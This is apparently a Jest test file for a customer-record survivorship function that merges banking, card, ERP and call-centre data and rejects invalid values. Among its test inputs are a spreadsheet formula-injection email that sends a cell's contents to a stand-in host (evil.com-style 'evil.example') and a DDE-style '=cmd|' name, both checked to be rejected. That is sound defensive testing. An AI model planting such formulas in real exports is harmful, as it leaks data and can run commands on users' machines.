import type { SourceParty } from '../../../adapters/canonical';
import { computeGoldenProfile, displayName } from './goldenProfile';

const party = (over: Partial<SourceParty>): SourceParty => ({
  system: 'CORE_BANKING', localId: '0000000001', givenName: null, familyName: null, rawName: null, birthDate: null,
  nationalId: null, phones: [], emails: [], address: null, changedAt: null, ...over,
});

describe('computeGoldenProfile', () => {
  const core = party({
    givenName: 'WILLIAM', familyName: 'SMITH', birthDate: '1980-05-01', nationalId: 'QQ123456C', phones: ['07700 900123'],
    emails: ['bill@old.example'], changedAt: '2024-01-01T00:00:00.000Z',
    address: { line1: '1 High St', line2: null, city: 'London', postalCode: 'SW1A 1AA', country: 'GB' },
  });
  const cards = party({
    system: 'CARDS', localId: 'CH00000001', rawName: 'SMITH/BILL', emails: ['Bill@New.Example'], phones: ['+44 7700 900124'],
    changedAt: '2026-01-01T00:00:00.000Z', address: { line1: '9 Other Road', line2: 'Flat 2', city: 'Leeds', postalCode: 'LS1 1AA', country: 'GB' },
  });

  it('takes name and birth date from the KYC record and contact data from the most recent', () => {
    const profile = computeGoldenProfile([cards, core]);
    expect(profile.fullName.value).toBe('WILLIAM SMITH');
    expect(profile.fullName.source).toEqual({ system: 'CORE_BANKING', localId: '0000000001', changedAt: '2024-01-01T00:00:00.000Z' });
    expect(profile.fullName.conflict).toBe(true);
    expect(profile.birthDate).toMatchObject({ value: '1980-05-01', conflict: false, rule: 'UNANIMOUS' });
    expect(profile.email).toMatchObject({ value: 'bill@new.example', rule: 'MOST_RECENT', conflict: true });
    expect(profile.mobilePhone.value).toBe('+447700900124');
    expect(profile.email.candidates).toEqual([
      { system: 'CORE_BANKING', localId: '0000000001', value: 'bill@old.example', normalizedValue: 'bill@old.example', asOf: '2024-01-01T00:00:00.000Z', status: 'VALID', problem: null },
      { system: 'CARDS', localId: 'CH00000001', value: 'Bill@New.Example', normalizedValue: 'bill@new.example', asOf: '2026-01-01T00:00:00.000Z', status: 'VALID', problem: null },
    ]);
  });

  it('keeps the address whole from one record', () => {
    const profile = computeGoldenProfile([core, cards]);
    expect(profile.address.value).toEqual(cards.address);
    expect(profile.address.source?.system).toBe('CARDS');
  });

  it('has empty fields, not errors, when no record holds a value', () => {
    const profile = computeGoldenProfile([]);
    expect(profile.email).toEqual({ value: null, source: null, asOf: null, rule: null, conflict: false, candidates: [] });
  });

  it('reads the track-1 name the right way round', () => {
    expect(displayName(cards)).toBe('BILL SMITH');
  });
});

describe('survivorship never serves an invalid value', () => {
  const at = (system: SourceParty['system'], localId: string, changedAt: string, over: Partial<SourceParty>) => party({ system, localId, changedAt, ...over });
  const OLD = '2020-01-01T00:00:00.000Z';
  const NEW = '2026-06-01T00:00:00.000Z';
  const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"ann@example.com")';

  // [case, the records, the field, the value served, the problem the bad candidate carries]
  const cases: Array<[string, SourceParty[], 'email' | 'mobilePhone' | 'fullName' | 'birthDate' | 'nationalId', string | null, string]> = [
    [
      'a formula as the most recent email, against three agreeing systems',
      [
        at('CORE_BANKING', '0000000001', OLD, { emails: ['ann@example.com'] }),
        at('CARDS', 'CH00000001', OLD, { emails: ['ANN@example.com'] }),
        at('ERP', '1000000001', OLD, { emails: ['ann@example.com'] }),
        at('CALL_CENTER', 'C000000001', NEW, { emails: [hyperlink] }),
      ],
      'email', 'ann@example.com', 'NOT_AN_EMAIL_ADDRESS',
    ],
    ['an email with no domain, most recent', [at('CORE_BANKING', '0000000001', OLD, { emails: ['ann@example.com'] }), at('CALL_CENTER', 'C000000001', NEW, { emails: ['ann@'] })], 'email', 'ann@example.com', 'NOT_AN_EMAIL_ADDRESS'],
    ['an email with a space, most recent', [at('CORE_BANKING', '0000000001', OLD, { emails: ['ann@example.com'] }), at('CARDS', 'CH00000001', NEW, { emails: ['ann smith@example.com'] })], 'email', 'ann@example.com', 'NOT_AN_EMAIL_ADDRESS'],
    ['a phone that does not parse, most recent', [at('CORE_BANKING', '0000000001', OLD, { phones: ['07700 900123'] }), at('CALL_CENTER', 'C000000001', NEW, { phones: ['call after 6pm'] })], 'mobilePhone', '+447700900123', 'NOT_A_PHONE_NUMBER'],
    ['a phone too short to be one, most recent', [at('CORE_BANKING', '0000000001', OLD, { phones: ['07700 900123'] }), at('ERP', '1000000001', NEW, { phones: ['077'] })], 'mobilePhone', '+447700900123', 'NOT_A_PHONE_NUMBER'],
    ['a name with a code-page ? from the KYC system', [at('CORE_BANKING', '0000000001', OLD, { givenName: 'BART?OMIEJ', familyName: 'NOWAK' }), at('ERP', '1000000001', OLD, { givenName: 'Bartłomiej', familyName: 'Nowak' })], 'fullName', 'Bartłomiej Nowak', 'SUBSTITUTION_CHARACTER'],
    ['a name with U+FFFD from the KYC system', [at('CORE_BANKING', '0000000001', OLD, { givenName: 'Bart\uFFFDomiej', familyName: 'Nowak' }), at('CARDS', 'CH00000001', OLD, { rawName: 'NOWAK/BARTLOMIEJ' })], 'fullName', 'BARTLOMIEJ NOWAK', 'SUBSTITUTION_CHARACTER'],
    ['a name that is a formula', [at('CORE_BANKING', '0000000001', OLD, { givenName: '=cmd|', familyName: 'x' }), at('ERP', '1000000001', OLD, { givenName: 'Ann', familyName: 'Lee' })], 'fullName', 'Ann Lee', 'NOT_A_NAME'],
    ['a birth date that is no date', [at('CORE_BANKING', '0000000001', OLD, { birthDate: '1980-02-30' }), at('CARDS', 'CH00000001', OLD, { birthDate: '1980-02-03' })], 'birthDate', '1980-02-03', 'NOT_A_DATE'],
    ['a national id with a substitution character', [at('CORE_BANKING', '0000000001', OLD, { nationalId: 'QQ12?456C' }), at('ERP', '1000000001', OLD, { nationalId: 'QQ123456C' })], 'nationalId', 'QQ123456C', 'SUBSTITUTION_CHARACTER'],
    ['only invalid values: nothing is served', [at('CORE_BANKING', '0000000001', OLD, { emails: ['not-an-email'] }), at('CARDS', 'CH00000001', NEW, { emails: ['@example.com'] })], 'email', null, 'NOT_AN_EMAIL_ADDRESS'],
  ];

  it.each(cases)('%s', (_case, parties, field, served, problem) => {
    const golden = computeGoldenProfile(parties)[field];
    expect(golden.value).toBe(served);
    const invalid = golden.candidates.filter((c) => c.status === 'INVALID');
    expect(invalid.length).toBeGreaterThan(0);
    for (const candidate of invalid) expect(candidate.problem).toBe(problem);
    // The steward sees every record, invalid ones included.
    expect(golden.candidates).toHaveLength(parties.length);
    if (served === null) expect(golden.rule).toBeNull();
    else expect(golden.source?.localId).not.toBe(invalid[0].localId);
  });

  it('says UNANIMOUS when every valid record agrees beside an invalid one', () => {
    const golden = computeGoldenProfile(cases[0][1]).email;
    expect(golden).toMatchObject({ value: 'ann@example.com', rule: 'UNANIMOUS', conflict: true });
  });

  it('accepts the names, emails and phones real records hold', () => {
    const valid = computeGoldenProfile([
      at('ERP', '1000000001', OLD, { givenName: 'Małgorzata', familyName: 'Núñez-O’Brien', emails: ['MARTIN.SARAH1581835@EXAMPLE.COM'], phones: ['+44-7700-900123'] }),
      at('CARDS', 'CH00000001', OLD, { rawName: "D'ARCY/JEAN-LUC", phones: ['07700-900-123'] }),
    ]);
    for (const field of [valid.fullName, valid.email, valid.mobilePhone]) for (const c of field.candidates) expect([c.value, c.status]).toEqual([c.value, 'VALID']);
  });
});
